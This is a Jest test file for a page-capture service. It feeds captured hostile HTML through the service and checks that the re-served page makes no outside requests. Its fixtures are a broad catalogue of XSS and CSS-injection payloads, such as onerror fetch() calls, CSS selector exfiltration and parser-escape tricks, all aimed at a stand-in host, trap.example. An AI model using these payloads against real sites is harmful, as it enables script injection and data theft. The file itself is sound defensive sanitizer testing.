// Hostile pages: the response contains no element and no URL through which a browser would contact another server. A
// judge opens such pages in a browser (test-e2e/src/console/pages/pages.judge.ts).
import { beforeAll, expect, it } from '@jest/globals';
import { send } from '../../send.ts';
import { startTestService, type TestService } from '../../service.ts';
import { importCaptures } from './made-captures.ts';

const trap = 'http://trap.example/';
let service: TestService;

beforeAll(async () => {
  service = await startTestService({ PAGE_RENDERING_TIME: '120s' });
});

const bodies: Record<string, string> = {
  scripts: `<script src=${trap}></script><img src=x onerror="fetch('${trap}')"><body onload=x><svg onload=x><script>x</script></svg>`,
  links: `<link rel=preconnect href=${trap}><link rel=dns-prefetch href=${trap}><link rel=preload as=image href=${trap}><link rel=icon href=${trap}><link rel=prerender href=${trap}><link rel=manifest href=${trap}>`,
  refresh: `<meta http-equiv=refresh content="0;url=${trap}"><meta http-equiv=Content-Security-Policy content="default-src *">`,
  base: `<base href=${trap} target=_top><img src=a.png><a href=b>b</a>`,
  frames: `<iframe src=${trap}></iframe><frame src=${trap}><object data=${trap}></object><embed src=${trap}><iframe srcdoc="<img src=${trap}>"></iframe><portal src=${trap}></portal>`,
  media: `<video src=${trap} poster=${trap}><source src=${trap}></video><audio src=${trap}></audio><track src=${trap}>`,
  forms: `<form action=${trap}><button formaction=${trap}>a</button><input type=image src=${trap}></form><isindex action=${trap}>`,
  'css urls': `<style>a{background:url(${trap})}b{background:u\\72l(${trap})}c{background:image-set("${trap}" 1x)}d{cursor:url('${trap}'),auto}@font-face{font-family:x;src:url(${trap})}e{background:-webkit-image-set(url(${trap}) 1x)}f{content:src("${trap}")}g{list-style:url(${trap}}</style>`,
  'css imports': `<style>@import "${trap}";@import url(${trap});@\\69mport '${trap}';@import url("${trap}") layer(x) supports(display:grid) print;</style>`,
  'css exfiltration': `<style>input[value^=a]{background:url(${trap}a)}input[value^=b]{background:url(${trap}b)}@media (min-width:1px){a{background:url(${trap})}}</style><input value=ab>`,
  'style attributes': `<p style="background:url(${trap})"><p style='background:url("${trap}")'><table background=${trap}><tr background=${trap}><td background=${trap}></table><body background=${trap}>`,
  'end of style': `<style>a{content:"</style ><img src=${trap}>"}/*</style><img src=${trap}>*/</style><style><!--</style><img src=${trap}>--></style>`,
  'end of attributes': `<p title='"><img src=${trap}>'><img alt='" src="${trap}'><a name='"><script>'>`,
  'other parsers': `<noscript><p title="</noscript><img src=${trap}>"></noscript><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=${trap}&gt;">`,
  select: `<select><style></style><img src=${trap}></select><select><option><style></select><img src=${trap}></style></select>`,
  svg: `<svg><image href="${trap}"/><use href="${trap}#x"/><foreignObject><img src=${trap}></foreignObject><style>@import "${trap}"</style></svg><img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>x</script></svg>">`,
  'svg references': `<svg><rect fill="url(${trap}#a)" filter="url('${trap}#b')" style="mask:url(${trap})" clip-path="u\\72l(${trap})"/><textPath href="${trap}#c">a</textPath><feImage href="${trap}"/><a href="${trap}"><set attributeName="href" to="${trap}"/></a><style>rect{fill:url(${trap}#d)}</style></svg>`,
  math: `<math href="${trap}"><mi xlink:href="${trap}">a</mi><mglyph src="${trap}"></mglyph><annotation-xml encoding="text/html"><img src="${trap}"></annotation-xml></math>`,
  framesets: `<frameset cols="url(${trap}),*"><frame src="${trap}"><frame src="javascript:x"></frameset>`,
  'custom elements': `<my-part src=${trap} style="background:url(${trap})" onclick=x></my-part>`,
  pictures: `<picture><source media="(min-width:1px)" srcset="${trap}"><img></picture><object data="${trap}a.png"></object><embed src="${trap}a.svg">`,
  srcset: `<img srcset="${trap} 1x"><picture><source srcset="${trap}"><img></picture><img src=${trap} lowsrc=${trap} dynsrc=${trap} longdesc=${trap}>`,
  urls: `<a href="javascript:alert(1)" ping=${trap}>a</a><a href="java&#10;script:x">b</a><img src="${trap}${'x'.repeat(8_192)}"><a href="${trap}${'x'.repeat(8_192)}">c</a>`,
  'old elements': `<applet code=${trap}></applet><bgsound src=${trap}><marquee onstart=x>a</marquee><xmp><img src=${trap}></xmp><plaintext><img src=${trap}>`,
};

it.each(Object.keys(bodies))('%s', async (name) => {
  const url = `http://hostile.example/${encodeURIComponent(name)}`;
  const [uuid] = await importCaptures(service, name, [{ url, type: 'text/html', body: bodies[name]! }]);
  const { status, text } = await send(service.client, 'GET', `/artifacts/${uuid}/page?links=/console/`);
  expect(status).toBe(200);
  // Attributes through which a browser would load something, and their values.
  const loading = [
    ...text.matchAll(/\s(src|srcset|href|data|action|formaction|poster|background|style|srcdoc)="([^"]*)"/g),
  ];
  for (const [, attribute, value] of loading) {
    const isHarmless =
      attribute === 'src'
        ? value!.startsWith('data:image/') || value === 'data:,'
        : attribute === 'href'
          ? value!.startsWith('/console/content/default?at=1592222400000&amp;url=http%3A') ||
            value === 'data:,'
          : !value!.includes('//');
    expect([attribute, value, isHarmless]).toEqual([attribute, value, true]);
  }
  const tags = [...text.matchAll(/<([a-z!/][^\s>]*)/gi)].map(([, tag]) => tag!.toLowerCase());
  expect(
    tags.filter(
      (tag) =>
        /script|link|meta|base|object|embed|foreignobject|animate|set$|mglyph|video|audio|frame$|applet|template/.test(
          tag,
        ) && !/iframe$/.test(tag),
    ),
  ).toEqual([]);
  for (const [, css] of text.matchAll(/<style[^>]*>(.*?)<\/style>/gs))
    expect(css).not.toMatch(/url\((?!data:)|@\\?[\w\s]*import|image-set\("/i);
});
